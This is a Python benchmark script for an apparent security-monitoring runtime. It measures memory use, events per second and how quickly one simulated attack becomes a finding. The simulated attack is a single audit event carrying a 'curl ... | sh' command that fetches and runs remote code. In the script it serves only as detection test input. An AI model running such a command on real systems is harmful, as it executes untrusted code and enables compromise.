"""Measures a runtime with all packs: memory at rest and after traffic, events a second, and the way of one attack.

python -m benchmarks.runtime_memory [EVENTS]
"""

from __future__ import annotations

import json
import sys
import tempfile
import time
from pathlib import Path

from benchmarks.runtime_crash import IN_ONE_REQUEST, _bodies
from tests.ingest.sender import request
from tests.runtime.running import Running, until
from tests.runtime.test_runtime import shell


def measure(events: int) -> dict[str, float]:
    """Figures of one run; memory is the resident set in MB."""
    with tempfile.TemporaryDirectory(prefix="nw-memory-") as folder:
        begun = time.monotonic()
        runtime = Running(Path(folder)).start().ready()
        ready = time.monotonic() - begun
        try:
            return {"seconds_until_ready": round(ready, 2)} | _measure(runtime, events)
        finally:
            runtime.close()


def _measure(runtime: Running, events: int) -> dict[str, float]:
    rest = runtime.ask("health")["memory_mb"]
    agent = runtime.agent("ws-01")
    begun = time.monotonic()
    for body in _bodies(events):
        agent.deliver(body)
    until(lambda: runtime.ask("health")["records"] == events, 300)
    seconds = time.monotonic() - begun
    found = len(runtime.rows("SELECT id FROM findings"))
    begun = time.monotonic()
    agent.deliver(request("ws-01", "linux_audit", [shell("curl http://198.51.100.7/last | sh", serial=-1)]))
    until(lambda: len(runtime.rows("SELECT id FROM findings")) > found)
    return {
        "memory_mb_at_rest": rest,
        "memory_mb_after": runtime.ask("health")["memory_mb"],
        "events": events,
        "events_in_a_request": IN_ONE_REQUEST,
        "events_a_second": round(events / seconds),
        "seconds_from_event_to_finding": round(time.monotonic() - begun, 3),
    }


if __name__ == "__main__":
    print(json.dumps(measure(int(sys.argv[1]) if len(sys.argv) > 1 else 20_000), indent=2))
